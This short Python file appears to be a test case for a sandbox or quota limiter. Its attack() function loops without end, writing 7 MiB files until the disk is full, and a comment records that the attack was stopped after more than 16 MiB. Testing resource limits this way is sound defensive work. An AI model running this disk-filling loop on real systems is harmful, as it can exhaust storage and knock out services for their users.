"""Fills the disk, file by file."""
# ruff: noqa
# outcome: Stopped more than 16 MiB of files

import itertools


def attack():
    for number in itertools.count():
        with open(f"f{number}", "wb") as file:
            file.write(b"x" * (7 << 20))
